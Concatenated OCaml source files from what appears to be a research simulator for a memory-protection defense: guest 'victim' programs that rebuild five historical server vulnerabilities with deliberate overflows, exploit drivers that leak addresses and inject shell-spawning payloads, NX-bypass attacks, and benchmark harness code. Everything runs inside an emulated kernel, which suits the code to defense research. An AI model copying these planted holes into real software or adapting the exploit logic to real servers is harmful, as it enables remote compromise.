  ?jitter_pages:int ->
  unit ->
  samba_result
(** Brute-force loop against independently stack-randomized server
    processes, seeded with a "good first guess" from a reference install
    (paper §6.1.2). *)

val run_wuftpd :
  ?defense:Defense.t ->
  ?obs:Obs.t ->
  ?tune:(Kernel.Os.t -> unit) ->
  ?commands:string list ->
  unit ->
  Runner.outcome * Runner.session
(** The 7350wurm-style two-stage attack; on success, [commands] are typed
    into the spawned shell (fodder for Sebek logging). Returns the live
    session for the Fig. 5 demos. *)
