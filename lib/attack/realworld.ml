open Isa.Asm

(* The five real-world vulnerabilities of the paper's Table 2, rebuilt as
   guest servers with the same vulnerability classes and exploits with the
   same structure (info leaks, length-field bugs, ASCII-translation
   expansion, brute-forced stack addresses, two-stage payloads). *)

type id = Apache_ssl | Bind | Proftpd | Samba | Wuftpd

let all = [ Apache_ssl; Bind; Proftpd; Samba; Wuftpd ]

type info = {
  package : string;
  version : string;
  vuln : string;
  exploit : string;
  injection : string;
  unprotected_result : string;
}

let info = function
  | Apache_ssl ->
    {
      package = "Apache + OpenSSL";
      version = "1.3.20 / 0.9.6d";
      vuln = "heap overflow (client master key, unchecked length)";
      exploit = "openssl-too-open";
      injection = "heap";
      unprotected_result = "remote nobody shell";
    }
  | Bind ->
    {
      package = "Bind";
      version = "8.2.2_P5";
      vuln = "stack overflow (TSIG handling)";
      exploit = "lsd-pl.net tsig";
      injection = "stack";
      unprotected_result = "remote root shell";
    }
  | Proftpd ->
    {
      package = "ProFTPD";
      version = "1.2.7";
      vuln = "heap overflow (ASCII-mode newline translation)";
      exploit = "proftpd-not-pro-enough";
      injection = "heap";
      unprotected_result = "remote root shell";
    }
  | Samba ->
    {
      package = "Samba";
      version = "2.2.1a";
      vuln = "stack overflow (call_trans2open), brute-forced address";
      exploit = "eSDee trans2open";
      injection = "stack";
      unprotected_result = "remote root shell";
    }
  | Wuftpd ->
    {
      package = "WU-FTPD";
      version = "2.6.1";
      vuln = "heap corruption (filename globbing / free)";
      exploit = "TESO 7350wurm";
      injection = "heap";
      unprotected_result = "remote root shell";
    }

(* Heap offsets used by the victims (fixed allocator layout). *)
let apache_buf = Kernel.Layout.heap_base + 0x80
let apache_handler = Kernel.Layout.heap_base + 0xC0
let proftpd_xlat = Kernel.Layout.heap_base + 0x400
let proftpd_dispatch = Kernel.Layout.heap_base + 0x440
let proftpd_store = Kernel.Layout.heap_base + 0x10100
let wuftpd_glob = Kernel.Layout.heap_base + 0x500
let wuftpd_hook = Kernel.Layout.heap_base + 0x540

let store_and_leak ~lbl addr =
  (* Stash an address into the leak word and write it to the client —
     modelling the info-leak step of the real exploits. *)
  [ I (Mov_ri (EDI, addr)); I (Mov_ri (ESI, lbl "leak")); I (Store (ESI, 0, EDI)) ]
  @ Guest.sys_write_imm ~buf:(lbl "leak") ~len:4 ()

let leak_register ~lbl =
  (* Same, but the address is already in edi. *)
  [ I (Mov_ri (ESI, lbl "leak")); I (Store (ESI, 0, EDI)) ]
  @ Guest.sys_write_imm ~buf:(lbl "leak") ~len:4 ()

let common_data =
  [
    L "leak";
    Word32 0;
    Align 16;
    L "pkt";
    Space 1024;
    Align 16;
    L "banner";
    Bytes "SRV!";
    L "okmsg";
    Bytes "BYE!";
  ]

let install_handler ~lbl ~at =
  [ I (Mov_ri (EAX, lbl "benign")); I (Mov_ri (EDI, at)); I (Store (EDI, 0, EAX)) ]

let call_through ~at =
  [ I (Mov_ri (ESI, at)); I (Load (EAX, ESI, 0)); I (Call_r EAX) ]

let finish ~lbl = Guest.sys_write_imm ~buf:(lbl "okmsg") ~len:4 () @ Guest.sys_exit 0

let benign = [ L "benign"; I Ret ]

(* --- victims ------------------------------------------------------------ *)

let apache_victim () =
  Kernel.Image.build ~name:"apache-openssl" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [ L "main" ]
      @ install_handler ~lbl ~at:apache_handler
      @ Guest.sys_write_imm ~buf:(lbl "banner") ~len:4 ()
      @ store_and_leak ~lbl apache_buf
      (* read the "client master key" packet: [len:1][key bytes] *)
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:512
      @ [
          (* the bug: copy len bytes into a 64-byte session buffer *)
          I (Mov_ri (ESI, lbl "pkt"));
          I (Loadb (ECX, ESI, 0));
          I (Add_ri (ESI, 1));
          I (Mov_ri (EDI, apache_buf));
        ]
      @ Guest.copy_counted ~tag:"mk"
      @ call_through ~at:apache_handler
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let bind_victim () =
  Kernel.Image.build ~name:"bind-tsig" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Push EBP);
        I (Mov_rr (EBP, ESP));
      ]
      (* read the DNS query *)
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:64
      @ [ I (Call (Lbl "handle_tsig")); I (Jmp (Lbl "fin")) ]
      @ [
          L "handle_tsig";
          I (Push EBP);
          I (Mov_rr (EBP, ESP));
          I (Add_ri (ESP, -128));
          (* the information leak: the error reply embeds a stack address *)
          I (Lea (EDI, EBP, -128));
        ]
      @ leak_register ~lbl
      (* read the TSIG record and copy it, unbounded, into the stack buffer *)
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:512
      @ [ I (Mov_ri (ESI, lbl "pkt")); I (Lea (EDI, EBP, -128)) ]
      @ Guest.copy_until_newline ~tag:"tsig"
      @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret; L "fin" ]
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let proftpd_victim () =
  Kernel.Image.build ~name:"proftpd-ascii" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [ L "main" ]
      @ install_handler ~lbl ~at:proftpd_dispatch
      @ Guest.sys_write_imm ~buf:(lbl "banner") ~len:4 ()
      @ store_and_leak ~lbl proftpd_store
      (* STOR: upload the file into the heap store *)
      @ Guest.sys_read_imm ~buf:proftpd_store ~len:256
      (* RETR in ASCII mode: translate \n -> \r\n into a 64-byte buffer,
         stopping at NUL, with no bounds check *)
      @ [
          I (Mov_ri (ESI, proftpd_store));
          I (Mov_ri (EDI, proftpd_xlat));
          L "xl_loop";
          I (Loadb (EAX, ESI, 0));
          I (Cmp_ri (EAX, 0));
          I (Jz (Lbl "xl_end"));
          I (Cmp_ri (EAX, 0x0A));
          I (Jnz (Lbl "xl_plain"));
          I (Mov_ri (EAX, 0x0D));
          I (Storeb (EDI, 0, EAX));
          I (Add_ri (EDI, 1));
          I (Mov_ri (EAX, 0x0A));
          L "xl_plain";
          I (Storeb (EDI, 0, EAX));
          I (Add_ri (EDI, 1));
          I (Add_ri (ESI, 1));
          I (Jmp (Lbl "xl_loop"));
          L "xl_end";
        ]
      @ call_through ~at:proftpd_dispatch
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let samba_victim () =
  Kernel.Image.build ~name:"samba-trans2open" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Push EBP);
        I (Mov_rr (EBP, ESP));
      ]
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:1024
      @ [
          I (Mov_ri (EAX, lbl "pkt"));
          I (Push EAX);
          I (Call (Lbl "trans2open"));
          I (Add_ri (ESP, 4));
          I (Jmp (Lbl "fin"));
          L "trans2open";
          I (Push EBP);
          I (Mov_rr (EBP, ESP));
          I (Add_ri (ESP, -600));
          I (Load (ESI, EBP, 8));
          I (Lea (EDI, EBP, -600));
        ]
      @ Guest.copy_until_newline ~tag:"t2"
      @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret; L "fin" ]
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let wuftpd_victim () =
  Kernel.Image.build ~name:"wuftpd-globbing" ~bss_size:0
    ~data:(fun ~lbl:_ -> common_data)
    ~code:(fun ~lbl ->
      [ L "main" ]
      @ [
          (* initialize the free hook *)
          I (Mov_ri (EAX, lbl "benign"));
          I (Mov_ri (EDI, wuftpd_hook));
          I (Store (EDI, 0, EAX));
        ]
      @ Guest.sys_write_imm ~buf:(lbl "banner") ~len:4 ()
      @ store_and_leak ~lbl wuftpd_glob
      (* the glob pattern: unbounded copy into a 64-byte heap buffer *)
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:1024
      @ [ I (Mov_ri (ESI, lbl "pkt")); I (Mov_ri (EDI, wuftpd_glob)) ]
      @ Guest.copy_until_newline ~tag:"glob"
      (* free() the glob result — through the corrupted hook *)
      @ call_through ~at:wuftpd_hook
      @ finish ~lbl
      @ benign)
    ~entry:"main" ()

let victim = function
  | Apache_ssl -> apache_victim ()
  | Bind -> bind_victim ()
  | Proftpd -> proftpd_victim ()
  | Samba -> samba_victim ()
  | Wuftpd -> wuftpd_victim ()

(* --- exploits ----------------------------------------------------------- *)

let w = Shellcode.word32

let assert_clean payload =
  assert (not (Shellcode.contains_newline payload));
  payload

let run_apache_session ?defense ?obs ?tune () =
  let s = Runner.start ?defense ?obs ?tune (apache_victim ()) in
  let buf = Runner.leak_addr (Runner.recv s) in
  let code = Shellcode.execve_bin_sh ~sled:8 ~base:buf () in
  let key = code ^ Guest.filler (64 - String.length code) ^ w buf in
  Runner.send s (String.make 1 (Char.chr (String.length key)) ^ key);
  ignore (Runner.step s);
  (Runner.outcome s, s)

let run_apache ?defense ?obs () = fst (run_apache_session ?defense ?obs ())

let run_bind_session ?defense ?obs ?tune () =
  let s = Runner.start ?defense ?obs ?tune (bind_victim ()) in
  Runner.send s "query: victim.example.com\n";
  let buf = Runner.leak_addr (Runner.recv s) in
  let code = Shellcode.execve_bin_sh ~sled:16 ~base:buf () in
  let payload =
    assert_clean (code ^ Guest.filler (128 - String.length code) ^ w buf ^ w buf)
  in
  Runner.send s (payload ^ "\n");
  ignore (Runner.step s);
  (Runner.outcome s, s)

let run_bind ?defense ?obs () = fst (run_bind_session ?defense ?obs ())

let run_proftpd_session ?defense ?obs ?tune () =
  let s = Runner.start ?defense ?obs ?tune (proftpd_victim ()) in
  let store = Runner.leak_addr (Runner.recv s) in
  (* 32 newlines expand to exactly the 64 bytes that fill the translation
     buffer; the next 4 translated bytes land on the dispatch pointer. *)
  let code_at = store + 32 + 4 + 1 in
  let code = Shellcode.execve_bin_sh ~sled:8 ~base:code_at () in
  let file = String.make 32 '\n' ^ w code_at ^ "\000" ^ code in
  Runner.send s file;
  ignore (Runner.step s);
  (Runner.outcome s, s)

let run_proftpd ?defense ?obs () = fst (run_proftpd_session ?defense ?obs ())

(* Samba: no leak — version 2.6 kernels randomize stack placement slightly,
   so the exploit brute-forces the return address from a good first guess
   (paper §6.1.2). Each attempt is a fresh connection (fresh process, fresh
   randomization). *)
type samba_result = {
  outcome : Runner.outcome;
  attempts : int;
  detections : int;
  last : Runner.session option;
}

let samba_buf_from_esp esp =
  (* main pushes ebp, call pushes ret, trans2open pushes ebp: -12; locals 600 *)
  esp - 12 - 600

let run_samba ?defense ?obs ?tune ?(max_attempts = 64) ?(jitter_pages = 16) () =
  let code = Shellcode.execve_bin_sh_pic ~sled:400 () in
  (* "Insider information": the good first guess comes from manual analysis
     of a similar vulnerable system (paper §6.1.2) — model it by reading the
     stack layout of a reference install, then brute-force against fresh,
     independently randomized server processes. *)
  let guess =
    let reference =
      Runner.start ~stack_jitter_pages:jitter_pages ~seed:999 (samba_victim ())
    in
    samba_buf_from_esp (Hw.Cpu.get reference.victim.regs Isa.Reg.ESP) + 200
  in
  let detections = ref 0 in
  let rec attempt n =
    if n > max_attempts then
      { outcome = Runner.Hung; attempts = n - 1; detections = !detections; last = None }
    else begin
      let s =
        Runner.start ?defense ?obs ?tune ~stack_jitter_pages:jitter_pages ~seed:(1000 + n)
          (samba_victim ())
      in
      let payload =
        assert_clean (code ^ Guest.filler (600 - String.length code) ^ w guess ^ w guess)
      in
      Runner.send s (payload ^ "\n");
      ignore (Runner.step s);
      let o = Runner.outcome s in
      detections := !detections + s.victim.detections;
      match o with
      | Runner.Shell_spawned _ | Runner.Foiled _ ->
        { outcome = o; attempts = n; detections = !detections; last = Some s }
      | Runner.Crashed _ | Runner.Completed _ | Runner.Hung -> attempt (n + 1)
    end
  in
  attempt 1

(* WU-FTPD: two-stage 7350wurm-style payload; returns the session so the
   response-mode demos can keep talking to the spawned shell. *)
let run_wuftpd ?defense ?obs ?tune ?(commands = [ "id"; "q" ]) () =
  let s = Runner.start ?defense ?obs ?tune (wuftpd_victim ()) in
  let glob = Runner.leak_addr (Runner.recv s) in
  let stage1_base = glob + 68 in
  let stage1 = Shellcode.two_stage_stage1 ~sled:16 ~base:stage1_base () in
  let pattern = assert_clean (Guest.filler 64 ^ w stage1_base ^ stage1) in
  Runner.send s (pattern ^ "\n");
  let reply = Runner.recv s in
  let got_magic =
    String.length reply >= 4 && String.sub reply (String.length reply - 4) 4 = "OK!!"
  in
  if got_magic then begin
    let stage2_base = stage1_base + String.length stage1 in
    Runner.send s (Shellcode.interactive_shell ~base:stage2_base);
    ignore (Runner.step s);
    List.iter
      (fun cmd ->
        Runner.send s (cmd ^ "\n");
        ignore (Runner.step s))
      commands
  end;
  ignore (Runner.step s);
  (Runner.outcome s, s)

(* End-to-end with the final kernel session exposed, so callers can render
   the machine state (cost model, TLB statistics) after the attack. Samba
   only has a session when an attempt concluded decisively. *)
let run_session ?defense ?obs ?tune = function
  | Apache_ssl ->
    let o, s = run_apache_session ?defense ?obs ?tune () in
    (o, Some s)
  | Bind ->
    let o, s = run_bind_session ?defense ?obs ?tune () in
    (o, Some s)
  | Proftpd ->
    let o, s = run_proftpd_session ?defense ?obs ?tune () in
    (o, Some s)
  | Samba ->
    let r = run_samba ?defense ?obs ?tune () in
    (r.outcome, r.last)
  | Wuftpd ->
    let o, s = run_wuftpd ?defense ?obs ?tune () in
    (o, Some s)

let run ?defense ?obs id = fst (run_session ?defense ?obs id)
