(** Attacks that defeat the execute-disable bit but not split memory — the
    paper's §2 motivation. *)

val plugin_host : unit -> Kernel.Image.t
(** Victim with a legitimate library routine that mmaps writable+executable
    memory, copies staged bytes in, and runs them (JIT/plugin loader). *)

val run_nx_bypass : ?defense:Defense.t -> ?obs:Obs.t -> unit -> Runner.outcome
(** The "well-crafted stack" DEP bypass (paper ref [4]): stage shellcode as
    data, hijack control into the loader gadget, let it conjure executable
    memory. Succeeds under NX; split memory splits the fresh RWX mapping
    and the copied code never reaches the code copy. *)

val run_nx_bypass_session :
  ?defense:Defense.t ->
  ?obs:Obs.t ->
  ?tune:(Kernel.Os.t -> unit) ->
  unit ->
  Runner.outcome * Runner.session

val jit_victim : unit -> Kernel.Image.t
(** Victim keeping code and data on the same writable, executable page
    (Fig. 1b: JavaVM, signal trampolines, loadable modules). *)

val run_mixed_page : ?defense:Defense.t -> ?obs:Obs.t -> unit -> Runner.outcome
(** Overflow within the mixed page; NX cannot mark it non-executable. *)

val run_mixed_page_session :
  ?defense:Defense.t ->
  ?obs:Obs.t ->
  ?tune:(Kernel.Os.t -> unit) ->
  unit ->
  Runner.outcome * Runner.session
