(** Exploit driver plumbing: spawn a victim under a chosen defense, talk to
    it over its console (the "network"), and classify what happened. *)

type outcome =
  | Shell_spawned of { detected_first : bool }
      (** [execve] reached; [detected_first] means a detection fired first
          (observe mode letting the attack proceed) *)
  | Foiled of { mode : string }  (** detected and terminated *)
  | Crashed of { signal : string }  (** died without detection *)
  | Completed of int  (** exited normally — attack had no effect *)
  | Hung

val outcome_name : outcome -> string
val is_attack_success : outcome -> bool
val is_foiled : outcome -> bool

type session = { k : Kernel.Os.t; victim : Kernel.Proc.t }

(** [start image] spawns [image] under [defense]; [obs] (default
    [Obs.null]) threads a live trace/metrics sink into the kernel. [tune]
    runs on the freshly built kernel before the exploit drives it — e.g.
    installing a syscall tracer ([Kernel.Os.set_syscall_tracer]). *)
val start :
  ?defense:Defense.t ->
  ?stack_jitter_pages:int ->
  ?seed:int ->
  ?obs:Obs.t ->
  ?tune:(Kernel.Os.t -> unit) ->
  Kernel.Image.t ->
  session

val send : session -> string -> unit
val step : session -> Kernel.Os.stop_reason
val recv : session -> string
(** Run until the victim blocks or exits, then drain its stdout. *)

val leak_addr : string -> int
(** Decode an info-leak: the last 4 bytes of a response, little-endian. *)

val classify : Kernel.Os.t -> Kernel.Proc.t -> outcome
val outcome : session -> outcome
