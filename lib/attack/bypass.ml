open Isa.Asm

(* Two attacks that defeat the execute-disable bit but not split memory —
   the paper's §2 motivation:

   - {!run_nx_bypass}: the "well-crafted stack" attack [4]: hijack control
     into legitimate library code that mmaps fresh writable+executable
     memory, copies the injected bytes into it and jumps there. The NX bit
     never sees a violation because every fetched page is "executable".
   - {!run_mixed_page}: a JIT/JavaVM-style victim keeps code and data on
     the same page (Fig. 1b); that page cannot be marked non-executable,
     so injection into it sails past NX. *)

(* --- NX bypass ---------------------------------------------------------- *)

let plugin_host () =
  Kernel.Image.build ~name:"plugin-host" ~bss_size:0
    ~data:(fun ~lbl:_ ->
      [
        L "staging";
        Space 256;
        Align 16;
        L "pkt";
        Space 512;
        L "okmsg";
        Bytes "BYE!";
      ])
    ~lib:
      [
        (* A legitimate dynamic-plugin loader: mmap(len=4096, prot=rwx),
           copy the staged plugin in, run it. Real-world analogue: JIT
           compilers, dlopen-style loaders. *)
        L "load_plugin";
        I (Mov_ri (EAX, 90));
        I (Mov_ri (EBX, 4096));
        I (Mov_ri (ECX, 7));
        I (Int 0x80);
        I (Mov_rr (EDI, EAX));
        I (Push EDI);
        I (Mov_ri (ESI, Kernel.Layout.data_base));
        (* staging is the first data label, at the segment base *)
        I (Mov_ri (ECX, 256));
        L "lp_copy";
        I (Cmp_ri (ECX, 0));
        I (Jz (Lbl "lp_run"));
        I (Loadb (EAX, ESI, 0));
        I (Storeb (EDI, 0, EAX));
        I (Add_ri (ESI, 1));
        I (Add_ri (EDI, 1));
        I (Add_ri (ECX, -1));
        I (Jmp (Lbl "lp_copy"));
        L "lp_run";
        I (Pop EDI);
        I (Jmp_r EDI);
      ]
    ~code:(fun ~lbl ->
      [ L "main" ]
      @ Guest.sys_read_imm ~buf:(lbl "staging") ~len:256
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:512
      @ [
          I (Mov_ri (EAX, lbl "pkt"));
          I (Push EAX);
          I (Call (Lbl "vuln"));
          I (Add_ri (ESP, 4));
        ]
      @ Guest.sys_write_imm ~buf:(lbl "okmsg") ~len:4 ()
      @ Guest.sys_exit 0
      @ [
          L "vuln";
          I (Push EBP);
          I (Mov_rr (EBP, ESP));
          I (Add_ri (ESP, -64));
          I (Load (ESI, EBP, 8));
          I (Lea (EDI, EBP, -64));
        ]
      @ Guest.copy_until_newline ~tag:"v"
      @ [ I (Mov_rr (ESP, EBP)); I (Pop EBP); I Ret ])
    ~entry:"main" ()

let run_nx_bypass_session ?defense ?obs ?tune () =
  let image = plugin_host () in
  let s = Runner.start ?defense ?obs ?tune image in
  (* The mmap region base is deterministic: first mmap in the process. *)
  let plugin_base = Kernel.Layout.mmap_base in
  let code = Shellcode.execve_bin_sh ~sled:16 ~base:plugin_base () in
  Runner.send s code;
  ignore (Runner.step s);
  let loader = Kernel.Image.label image "load_plugin" in
  let packet = Guest.filler 64 ^ Shellcode.word32 loader ^ Shellcode.word32 loader in
  assert (not (Shellcode.contains_newline packet));
  Runner.send s (packet ^ "\n");
  ignore (Runner.step s);
  (Runner.outcome s, s)

let run_nx_bypass ?defense ?obs () = fst (run_nx_bypass_session ?defense ?obs ())

(* --- mixed code+data page ----------------------------------------------- *)

let jit_victim () =
  Kernel.Image.build ~name:"javavm-mixed" ~bss_size:0
    ~data:(fun ~lbl:_ -> [ L "pkt"; Space 512; L "okmsg"; Bytes "BYE!" ])
    ~mixed:(fun ~lbl:_ ->
      [
        (* code and data share this writable, executable page *)
        L "mixed_helper";
        I Ret;
        Align 16;
        L "mbuf";
        Space 64;
        L "mfptr";
        Word32 0;
        (* patched to mixed_helper by main at startup *)
      ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EAX, lbl "mixed_helper"));
        I (Mov_ri (EDI, lbl "mfptr"));
        I (Store (EDI, 0, EAX));
      ]
      @ Guest.sys_read_imm ~buf:(lbl "pkt") ~len:512
      @ [ I (Mov_ri (ESI, lbl "pkt")); I (Mov_ri (EDI, lbl "mbuf")) ]
      @ Guest.copy_until_newline ~tag:"jit"
      @ [
          I (Mov_ri (ESI, lbl "mfptr"));
          I (Load (EAX, ESI, 0));
          I (Call_r EAX);
        ]
      @ Guest.sys_write_imm ~buf:(lbl "okmsg") ~len:4 ()
      @ Guest.sys_exit 0)
    ~entry:"main" ()

let run_mixed_page_session ?defense ?obs ?tune () =
  let image = jit_victim () in
  let s = Runner.start ?defense ?obs ?tune image in
  let mbuf = Kernel.Image.label image "mbuf" in
  let code = Shellcode.execve_bin_sh ~sled:8 ~base:mbuf () in
  let payload =
    code ^ Guest.filler (64 - String.length code) ^ Shellcode.word32 mbuf
  in
  assert (not (Shellcode.contains_newline payload));
  Runner.send s (payload ^ "\n");
  ignore (Runner.step s);
  (Runner.outcome s, s)

let run_mixed_page ?defense ?obs () = fst (run_mixed_page_session ?defense ?obs ())
