type outcome =
  | Shell_spawned of { detected_first : bool }
  | Foiled of { mode : string }
  | Crashed of { signal : string }
  | Completed of int
  | Hung

let outcome_name = function
  | Shell_spawned { detected_first = false } -> "root shell"
  | Shell_spawned { detected_first = true } -> "shell (observed)"
  | Foiled { mode } -> Fmt.str "foiled (%s)" mode
  | Crashed { signal } -> Fmt.str "crashed (%s)" signal
  | Completed n -> Fmt.str "exit %d" n
  | Hung -> "hung"

let is_attack_success = function
  | Shell_spawned _ -> true
  | Foiled _ | Crashed _ | Completed _ | Hung -> false

let is_foiled = function
  | Foiled _ -> true
  | Shell_spawned _ | Crashed _ | Completed _ | Hung -> false

type session = { k : Kernel.Os.t; victim : Kernel.Proc.t }

let start ?(defense = Defense.unprotected) ?(stack_jitter_pages = 0) ?seed
    ?(obs = Obs.null) ?tune image =
  let protection = Defense.to_protection defense in
  let k =
    Kernel.Os.create ~stack_jitter_pages ?seed ~tlb_fill:(Defense.tlb_fill defense)
      ~obs ~protection ()
  in
  let victim = Kernel.Os.spawn k image in
  Option.iter (fun f -> f k) tune;
  { k; victim }

let send s data =
  let n = Kernel.Os.feed_stdin s.k s.victim data in
  if n <> String.length data then
    invalid_arg (Fmt.str "Runner.send: console full (%d of %d bytes)" n (String.length data))

let step s = Kernel.Os.run s.k

let recv s =
  ignore (step s);
  Kernel.Os.read_stdout s.k s.victim

let leak_addr response =
  let n = String.length response in
  if n < 4 then invalid_arg "Runner.leak_addr: response too short";
  let b i = Char.code response.[n - 4 + i] in
  b 0 lor (b 1 lsl 8) lor (b 2 lsl 16) lor (b 3 lsl 24)

let classify (k : Kernel.Os.t) (victim : Kernel.Proc.t) =
  let log = Kernel.Os.log k in
  let my_detection =
    List.exists (fun (pid, _, _) -> pid = victim.pid) (Kernel.Event_log.detections log)
  in
  let shell =
    Kernel.Event_log.find_first log (function
      | Kernel.Event_log.Exec_shell { pid; _ } -> pid = victim.pid
      | _ -> false)
    <> None
  in
  if shell then Shell_spawned { detected_first = my_detection }
  else
    match victim.state with
    | Kernel.Proc.Zombie (Kernel.Proc.Killed signal) ->
      if my_detection then
        let mode =
          match
            List.find_opt (fun (pid, _, _) -> pid = victim.pid)
              (Kernel.Event_log.detections log)
          with
          | Some (_, _, mode) -> mode
          | None -> "unknown"
        in
        Foiled { mode }
      else Crashed { signal = Kernel.Proc.signal_name signal }
    | Kernel.Proc.Zombie (Kernel.Proc.Exited n) -> Completed n
    | Kernel.Proc.Runnable | Kernel.Proc.Blocked _ -> Hung

let outcome s = classify s.k s.victim
