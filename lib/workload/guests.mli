(** Guest benchmark programs mirroring the paper's §6.2 workloads.

    What matters is the interaction {e shape}: the Apache pair context-
    switches per request and streams the response through memory; gzip
    blocks on disk-style I/O; nbench is tight compute over a small working
    set; the Unixbench pieces isolate syscall, pipe, context-switch, fork
    and copy costs. *)

val apache_server : ?ws_pages:int -> size:int -> unit -> Kernel.Image.t
(** Serve [size]-byte responses; each request walks [ws_pages] pages of
    server state (config/logging/connection structures). *)

val apache_client : size:int -> requests:int -> unit -> Kernel.Image.t
(** ApacheBench-style client: request, drain [size] bytes, repeat. *)

val gzip_disk : size:int -> block:int -> unit -> Kernel.Image.t
(** The "disk": streams [size] input bytes in [block]-byte writes. *)

val gzip : ?dict_pages:int -> size:int -> unit -> Kernel.Image.t
(** Streaming compressor: read a block, refresh a [dict_pages]-page
    dictionary, rolling-hash every byte; repeat until EOF. *)

val nbench : iters:int -> unit -> Kernel.Image.t
(** Arithmetic/bitfield passes over a one-page working set. *)

val numeric_sort : ?n:int -> rounds:int -> unit -> Kernel.Image.t
(** Insertion sort over a word array (nbench "numeric sort"). *)

val string_sort : ?n:int -> rounds:int -> unit -> Kernel.Image.t
(** Seed-and-bubble passes over a byte array (nbench "string sort"). *)

val fourier : ?n:int -> rounds:int -> unit -> Kernel.Image.t
(** Fixed-point multiply-accumulate loops (nbench "fourier"). *)

val nbench_suite : scale:int -> (string * Kernel.Image.t) list
(** The four compute kernels, workload scaled by [scale]. *)

val syscall_bench : iters:int -> unit -> Kernel.Image.t
val pipe_throughput : iters:int -> unit -> Kernel.Image.t
(** Self-pipe write/read of 512-byte blocks (no context switches). *)

val ctxsw_ws : int
val ctxsw_stride : int

val ctxsw_ping : iters:int -> unit -> Kernel.Image.t
(** Pipe-based context switching, initiator side: walk the working set,
    send the token, wait for the echo. *)

val ctxsw_pong : unit -> Kernel.Image.t
val spawn_bench : iters:int -> unit -> Kernel.Image.t
(** fork + child exit + waitpid, [iters] times. *)

val fscopy : passes:int -> size:int -> unit -> Kernel.Image.t
(** Word-wise copies between two heap buffers (filesystem-ish traffic). *)

val tlb_walker : ?pages:int -> rounds:int -> unit -> Kernel.Image.t
(** TLB pressure kernel: per round, walk [pages] data pages in order,
    re-touching the hot page (page 0) between steps — the hot/cold reuse
    pattern that separates LRU from FIFO once [pages] exceeds the TLB
    capacity. Default 12 pages. *)

val sparse : ?data_pages:int -> ?touch_pages:int -> unit -> Kernel.Image.t
(** Large data segment, tiny touched prefix — separates eager page
    duplication from demand splitting in the memory-overhead ablation. *)

val scale_unit : ?ro_pages:int -> ?rounds:int -> unit -> Kernel.Image.t
(** Scale-out unit process: walk [ro_pages] read-only pages [rounds]
    times, then exit. All image-backed memory is read-only, so under
    loader COW ([share_images]) N identical instances share every image
    frame — the sublinear-memory demonstrator for 10k-process machines. *)

val serve_server : ?ws_pages:int -> size:int -> unit -> Kernel.Image.t
(** Serving-benchmark server: [apache_server]'s shape, but each request
    carries a byte offset into a [ws_pages]-page popularity-addressed
    working set (the load generator's Zipf pick), so the handler's memory
    traffic follows the offered load. Responds with [size] bytes. *)

val serve_client :
  mode:[ `Closed | `Open ] ->
  size:int ->
  schedule:(int * int) array ->
  unit ->
  Kernel.Image.t
(** Serving-benchmark client replaying a precomputed schedule of
    (page_byte_offset, pace) pairs from rodata. Closed-loop pace = think
    cycles slept after draining each response; open-loop pace = absolute
    release cycle, held via time() + nanosleep (degrades to back-to-back
    past saturation). Expects [size]-byte responses on fd 0/1. *)
