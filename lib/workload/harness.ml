type result = {
  label : string;
  defense : string;
  cycles : int;
  insns : int;
  traps : int;
  split_faults : int;
  single_steps : int;
  ctx_switches : int;
  peak_frames : int;
  itlb_misses : int;
  dtlb_misses : int;
}

exception Did_not_finish of string

let snapshot ~label ~defense (k : Kernel.Os.t) =
  let c = Kernel.Os.cost k in
  let mmu = Kernel.Os.mmu k in
  {
    label;
    defense;
    cycles = c.cycles;
    insns = c.insns;
    traps = c.traps;
    split_faults = c.split_faults;
    single_steps = c.single_steps;
    ctx_switches = c.ctx_switches;
    peak_frames = Kernel.Frame_alloc.peak_in_use (Kernel.Os.alloc k);
    itlb_misses = (Hw.Tlb.stats (Hw.Mmu.itlb mmu)).misses;
    dtlb_misses = (Hw.Tlb.stats (Hw.Mmu.dtlb mmu)).misses;
  }

let finish ~label ~defense k ~fuel =
  match Kernel.Os.run ~fuel k with
  | Kernel.Os.All_exited -> snapshot ~label ~defense k
  | Kernel.Os.All_blocked -> raise (Did_not_finish (label ^ ": deadlocked"))
  | Kernel.Os.Fuel_exhausted -> raise (Did_not_finish (label ^ ": fuel exhausted"))

let run_single_k ?(frames = 16384) ?(fuel = 100_000_000) ?(eager = false)
    ?(obs = Obs.null) ~defense image =
  let protection = Defense.to_protection defense in
  let k =
    Kernel.Os.create ~frames ~tlb_fill:(Defense.tlb_fill defense) ~obs ~protection ()
  in
  let _p = Kernel.Os.spawn ~eager k image in
  (finish ~label:image.Kernel.Image.name ~defense:(Defense.name defense) k ~fuel, k)

let run_single ?frames ?fuel ?eager ?obs ~defense image =
  fst (run_single_k ?frames ?fuel ?eager ?obs ~defense image)

let run_pair_k ?(frames = 16384) ?(fuel = 100_000_000) ?capacity ?(obs = Obs.null)
    ~defense server client =
  let protection = Defense.to_protection defense in
  let k =
    Kernel.Os.create ~frames ~tlb_fill:(Defense.tlb_fill defense) ~obs ~protection ()
  in
  let s = Kernel.Os.spawn k server in
  let c = Kernel.Os.spawn k client in
  Kernel.Os.connect ?capacity k s c;
  (finish ~label:server.Kernel.Image.name ~defense:(Defense.name defense) k ~fuel, k)

let run_pair ?frames ?fuel ?capacity ?obs ~defense server client =
  fst (run_pair_k ?frames ?fuel ?capacity ?obs ~defense server client)

(* Performance relative to the unprotected baseline: >1 never happens in
   practice; 0.9 means "runs at 90% of full speed" as in the paper's
   normalized plots. *)
